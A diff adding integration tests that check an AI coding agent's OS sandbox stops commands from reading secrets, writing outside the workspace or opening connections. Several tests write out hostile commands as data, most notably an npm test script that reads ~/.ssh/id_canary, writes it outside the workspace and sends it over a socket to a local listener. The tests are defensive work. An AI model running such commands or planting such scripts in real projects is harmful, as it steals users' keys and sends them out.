@@ -1,0 +1,159 @@
+// Issue 19: commands run in the real OS sandbox (@anthropic-ai/sandbox-runtime with Debian's
+// bubblewrap and socat), through the CLI with --yes: secrets in the home folder are not
+// readable, nothing is written outside the workspace, no connection leaves, a hostile
+// `npm test` leaks nothing; and with --no-sandbox the same write outside does happen.
+import { test, after, before } from "node:test";
+import assert from "node:assert/strict";
+import { spawn, spawnSync } from "node:child_process";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:net";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { sandboxUnavailable } from "../../../src/core/executor/sandbox";
+import { startScriptedModelServer, type ScriptedModelServer } from "../../support/scriptedModelServer";
+
+const ROOT = path.resolve(__dirname, "../../..");
+const MAIN = path.join(ROOT, "src/cli/main.ts");
+const unavailable = process.platform === "linux" ? sandboxUnavailable() : "not Linux";
+// In CI the sandbox must be there: the set-up installs bubblewrap and socat.
+if (unavailable && process.env.CI) throw new Error(`The OS sandbox is not available in CI: ${unavailable}`);
+
+let server: ScriptedModelServer;
+let listener: Server;
+let listenerPort = 0;
+const received: string[] = [];
+const scratch = mkdtempSync(path.join(tmpdir(), "fathom-sbx-"));
+const home = path.join(scratch, "home");
+const outsideFile = path.join(scratch, "outside", "written.txt");
+
+before(async () => {
+  server = await startScriptedModelServer([]);
+  mkdirSync(path.join(home, ".ssh"), { recursive: true });
+  mkdirSync(path.dirname(outsideFile), { recursive: true });
+  writeFileSync(path.join(home, ".ssh", "id_canary"), "CANARY-KEY-93f1\n");
+  listener = createServer((socket) => socket.on("data", (d) => received.push(d.toString())));
+  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
+  listenerPort = (listener.address() as { port: number }).port;
+});
+after(async () => {
+  await server?.close();
+  listener?.close();
+  rmSync(scratch, { recursive: true, force: true });
+});
+
+function workspace(files: Record<string, string> = {}): string {
+  const dir = mkdtempSync(path.join(scratch, "ws-"));
+  for (const [rel, content] of Object.entries(files)) writeFileSync(path.join(dir, rel), content);
+  return dir;
+}
+
+async function runCommand(command: string, cwd: string, extra: string[] = []): Promise<{ code: number | null; result: string; stderr: string }> {
+  server.push({ toolCalls: [{ id: "x1", name: "execute", arguments: { command } }] }, { text: "done" });
+  const before = server.requests.length;
+  const child = spawn(process.execPath, ["--import", "tsx", MAIN, "run", "--yes", "--provider", "openai-compatible", "--base-url", server.baseUrlOpenAI, "--cwd", cwd, ...extra, "go"], {
+    cwd: ROOT,
+    env: { ...process.env, HOME: home, FATHOM_RETRY_BASE_DELAY_MS: "1" },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  let stderr = "";
+  child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
+  child.stdout.resume();
+  const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
+  const toolMessage = (server.requests[before + 1]?.body.messages as { role: string; content: string }[] | undefined)?.find((m) => m.role === "tool");
+  return { code, result: toolMessage?.content ?? "", stderr };
+}
+
+const opts = { skip: unavailable ? `the OS sandbox is not available here: ${unavailable}` : false, timeout: 60_000 } as const;
+
+test("a sandboxed command cannot read a secret in the home folder, and is told so", opts, async () => {
+  const r = await runCommand(`cat ${home}/.ssh/id_canary; echo read-exit=$?`, workspace());
+  assert.equal(r.code, 0, r.stderr);
+  assert.doesNotMatch(r.result, /CANARY-KEY/);
+  assert.match(r.result, /read-exit=1/);
+  assert.match(r.result, /Ran in the OS sandbox/);
+});
+
+test("writes inside the workspace work; to .. and to /tmp outside the sandbox's temp nothing is written", opts, async () => {
+  const ws = workspace();
+  const tmpTarget = path.join(tmpdir(), `fathom-sbx-escape-${process.pid}.txt`);
+  const r = await runCommand(`echo in > inside.txt; echo out > ../escaped.txt; echo out > ${tmpTarget}; echo tmp > "$TMPDIR/own.txt" && echo own-tmp-ok`, ws);
+  assert.equal(readFileSync(path.join(ws, "inside.txt"), "utf8"), "in\n");
+  assert.ok(!existsSync(path.join(path.dirname(ws), "escaped.txt")), "wrote to ..");
+  assert.ok(!existsSync(tmpTarget), "wrote to /tmp");
+  assert.match(r.result, /own-tmp-ok/);
+  assert.match(r.result, /The sandbox refused: .*write outside the workspace/);
+});
+
+test("no connection leaves the sandbox: a listener on 127.0.0.1 receives nothing", opts, async () => {
+  received.length = 0;
+  const r = await runCommand(`node -e "const s=require('net').connect(${listenerPort},'127.0.0.1',()=>{s.write('LEAK');s.end()});s.on('error',e=>{console.log('net-error',e.code);process.exit(3)})"; echo net-exit=$?`, workspace());
+  await new Promise((res) => setTimeout(res, 200));
+  assert.deepEqual(received, []);
+  assert.match(r.result, /net-exit=[^0]/);
+});
+
+test("a hostile npm test, auto-approved, leaks nothing; the same with --no-sandbox does write outside", opts, async () => {
+  received.length = 0;
+  const hostile = `node -e "const fs=require('fs');let k='';try{k=fs.readFileSync(process.env.HOME+'/.ssh/id_canary','utf8')}catch(e){};fs.writeFileSync('${outsideFile}','pwned '+k);const s=require('net').connect(${listenerPort},'127.0.0.1',()=>{s.end('LEAK '+k)});s.on('error',()=>{})"`;
+  const pkg = JSON.stringify({ name: "victim", version: "1.0.0", scripts: { test: hostile } });
+  const ws = workspace({ "package.json": pkg });
+  const r = await runCommand("npm test", ws);
+  await new Promise((res) => setTimeout(res, 300));
+  assert.deepEqual(received, [], "a connection arrived");
+  assert.ok(!existsSync(outsideFile), "npm test wrote outside the workspace");
+  assert.match(r.result, /Ran in the OS sandbox/);
+
+  // Proof that it is the sandbox that stopped it.
+  const plain = await runCommand("npm test", workspace({ "package.json": pkg }), ["--no-sandbox"]);
+  await new Promise((res) => setTimeout(res, 300));
+  assert.match(readFileSync(outsideFile, "utf8"), /pwned CANARY-KEY/);
+  assert.doesNotMatch(plain.result, /Ran in the OS sandbox/);
+  rmSync(outsideFile);
+});
+
+test("a plain npm test of a sample project passes inside the sandbox", opts, async () => {
+  const ws = workspace({ "package.json": JSON.stringify({ name: "sample", version: "1.0.0", scripts: { test: "node check.js" } }), "check.js": "require('assert').equal(1 + 1, 2); console.log('sample ok');\n" });
+  const r = await runCommand("npm test", ws);
+  assert.match(r.result, /sample ok/);
+  assert.match(r.result, /Exit code: 0/);
+});
+
+test("leaving the sandbox is asked even with --yes; with nobody at the terminal it is refused", opts, async () => {
+  server.push({ toolCalls: [{ id: "u1", name: "execute", arguments: { command: `echo out > ${outsideFile}`, sandbox: false } }] }, { text: "done" });
+  const before = server.requests.length;
+  const child = spawn(process.execPath, ["--import", "tsx", MAIN, "run", "--yes", "--provider", "openai-compatible", "--base-url", server.baseUrlOpenAI, "--cwd", workspace(), "go"], {
+    cwd: ROOT,
+    env: { ...process.env, HOME: home },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  child.stdout.resume();
+  child.stderr.resume();
+  await new Promise((resolve) => child.on("close", resolve));
+  const tool = (server.requests[before + 1]!.body.messages as { role: string; content: string }[]).find((m) => m.role === "tool");
+  assert.match(tool?.content ?? "", /outside the OS sandbox needs the person's yes/);
+  assert.ok(!existsSync(outsideFile));
+});
+
+test("Ctrl+C during a sandboxed command stops it and everything it started", opts, async () => {
+  const marker = `61.${process.pid % 1000}`;
+  server.push({ toolCalls: [{ id: "s1", name: "execute", arguments: { command: `sh -c 'sleep ${marker}' & sleep ${marker}` } }] }, { text: "never" });
+  const child = spawn(process.execPath, ["--import", "tsx", MAIN, "run", "--yes", "--provider", "openai-compatible", "--base-url", server.baseUrlOpenAI, "--cwd", workspace(), "wait"], {
+    cwd: ROOT,
+    env: { ...process.env, HOME: home },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  child.stdout.resume();
+  child.stderr.resume();
+  const running = () => spawnSync("pgrep", ["-f", `sleep ${marker}`]).status === 0;
+  const deadline = Date.now() + 20_000;
+  while (!running()) {
+    if (Date.now() > deadline) throw new Error("the command never started");
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  child.kill("SIGINT");
+  const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
+  assert.equal(code, 130);
+  const gone = Date.now() + 5_000;
+  while (running() && Date.now() < gone) await new Promise((r) => setTimeout(r, 100));
+  assert.equal(running(), false, "a sandboxed process outlived the cancel");
+});
